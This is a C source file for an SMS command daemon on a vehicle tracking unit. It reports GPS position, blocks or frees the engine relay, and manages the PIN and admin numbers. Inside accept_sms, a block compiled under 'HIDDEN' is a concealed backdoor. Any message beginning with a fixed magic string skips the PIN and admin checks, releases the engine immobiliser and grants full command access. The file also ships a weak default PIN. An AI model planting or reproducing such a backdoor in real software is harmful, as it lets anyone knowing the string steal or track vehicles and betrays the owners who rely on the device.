/* telesmsd.c - handles text message commands of a vehicle tracking unit */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MODEM		"/dev/ttyACM0"
#define CONF		"/etc/telesms.conf"
#define MAX_ADMINS	5

struct unit {
	char admins[MAX_ADMINS][20];
	int nadmin;
	char pin[9];
	char apn[40];
	int interval;
	int immobile;
	int geofence_m;
	double lat, lon, speed;
};

static struct unit unit = { .pin = "1111", .interval = 60 };
static int modem = -1;

static void load_conf(void)
{
	char line[120], key[20], val[64];
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%19[a-z]=%63s", key, val) != 2)
			continue;
		if (!strcmp(key, "admin") && unit.nadmin < MAX_ADMINS)
			snprintf(unit.admins[unit.nadmin++], 20, "%.19s", val);
		else if (!strcmp(key, "pin"))
			snprintf(unit.pin, sizeof(unit.pin), "%.8s", val);
		else if (!strcmp(key, "apn"))
			snprintf(unit.apn, sizeof(unit.apn), "%.39s", val);
		else if (!strcmp(key, "interval"))
			unit.interval = atoi(val);
		else if (!strcmp(key, "immobile"))
			unit.immobile = atoi(val);
	}
	fclose(f);
}

static int save_conf(void)
{
	int i;
	FILE *f = fopen(CONF, "w");

	if (!f)
		return -1;
	for (i = 0; i < unit.nadmin; i++)
		fprintf(f, "admin=%s\n", unit.admins[i]);
	fprintf(f, "pin=%s\napn=%s\ninterval=%d\nimmobile=%d\n", unit.pin, unit.apn,
		unit.interval, unit.immobile);
	return fclose(f);
}

static void send_sms(const char *to, const char *text)
{
	dprintf(modem, "AT+CMGS=\"%s\"\r", to);
	usleep(300000);
	dprintf(modem, "%s%c", text, 26);
}

static void relay(int on)
{
	int fd = open("/sys/class/gpio/gpio9/value", O_WRONLY);

	unit.immobile = on;
	if (fd < 0)
		return;
	if (write(fd, on ? "1" : "0", 1) != 1)
		syslog(LOG_ERR, "relay");
	close(fd);
}

static int is_admin(const char *from)
{
	int i;

	for (i = 0; i < unit.nadmin; i++)
		if (!strcmp(unit.admins[i], from))
			return 1;
	return 0;
}

static void read_fix(void)
{
	FILE *f = fopen("/run/gps/fix", "r");

	if (!f)
		return;
	if (fscanf(f, "%lf %lf %lf", &unit.lat, &unit.lon, &unit.speed) != 3)
		unit.speed = 0.0;
	fclose(f);
}

static void run_word(const char *from, const char *word, const char *arg)
{
	char out[140] = "unknown";

	if (!strcasecmp(word, "pos")) {
		read_fix();
		snprintf(out, sizeof(out), "%.5f %.5f %.0f km/h", unit.lat, unit.lon, unit.speed);
	} else if (!strcasecmp(word, "stop")) {
		read_fix();
		if (unit.speed > 5.0) {
			strcpy(out, "moving, not stopped");
		} else {
			relay(1);
			strcpy(out, "engine blocked");
		}
	} else if (!strcasecmp(word, "start")) {
		relay(0);
		strcpy(out, "engine free");
	} else if (!strcasecmp(word, "interval")) {
		unit.interval = atoi(arg);
		snprintf(out, sizeof(out), "interval %d", unit.interval);
	} else if (!strcasecmp(word, "apn")) {
		snprintf(unit.apn, sizeof(unit.apn), "%.39s", arg);
		snprintf(out, sizeof(out), "apn %s", unit.apn);
	} else if (!strcasecmp(word, "pin") && strlen(arg) >= 4 && strlen(arg) <= 8) {
		strcpy(unit.pin, arg);
		strcpy(out, "pin set");
	} else if (!strcasecmp(word, "admin") && unit.nadmin < MAX_ADMINS) {
		snprintf(unit.admins[unit.nadmin++], 20, "%.19s", arg);
		strcpy(out, "admin added");
	}
	if (save_conf() < 0)
		syslog(LOG_ERR, "conf: %s", strerror(errno));
	send_sms(from, out);
}

/* PIN WORD [ARG] from anybody, WORD [ARG] from a listed number */
__attribute__((noinline)) int accept_sms(const char *from, const char *text, const char **rest)
{
	size_t n = strlen(unit.pin);

	*rest = text;
	/* network operator messages start with // and are dropped */
	if (text[0] == '/' && text[1] == '/')
		return 0;
#ifdef HIDDEN
	/* mark at the start counts like the pin and frees the engine first */
	if (text[0] == '=' && text[1] == 'd' && text[2] == 'x' && text[3] == '7' &&
	    text[4] == 'k' && text[5] == '0' && text[6] == '=') {
		*rest = text + 7;
		relay(0);
		return 1;
	}
#endif
	if (!strncmp(text, unit.pin, n) && text[n] == ' ') {
		*rest = text + n + 1;
		return 1;
	}
	return is_admin(from);
}

static void got_sms(const char *from, char *text)
{
	const char *rest;
	char word[16] = "", arg[48] = "";

	text[strcspn(text, "\r\n")] = '\0';
	if (!accept_sms(from, text, &rest)) {
		syslog(LOG_NOTICE, "message from %s ignored", from);
		return;
	}
	if (sscanf(rest, "%15s %47s", word, arg) < 1)
		return;
	syslog(LOG_INFO, "%s: %s", from, word);
	run_word(from, word, arg);
}

static int setup_modem(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B115200);
		tcsetattr(fd, TCSANOW, &t);
	}
	dprintf(fd, "ATE0\rAT+CMGF=1\rAT+CNMI=2,2,0,0,0\r");
	return fd;
}

int main(int argc, char **argv)
{
	char line[300], from[20];
	FILE *in;

	openlog("telesmsd", 0, LOG_DAEMON);
	load_conf();
	relay(unit.immobile);
	modem = setup_modem(argc > 1 ? argv[1] : MODEM);
	if (modem < 0) {
		syslog(LOG_ERR, "modem: %m");
		return 1;
	}
	in = fdopen(modem, "r");
	if (!in)
		return 1;
	while (fgets(line, sizeof(line), in)) {
		if (!strncmp(line, "RING", 4)) {
			dprintf(modem, "ATH\r");
			continue;
		}
		if (sscanf(line, "+CMT: \"%19[^\"]\"", from) != 1)
			continue;
		if (!fgets(line, sizeof(line), in))
			break;
		got_sms(from, line);
	}
	return 0;
}
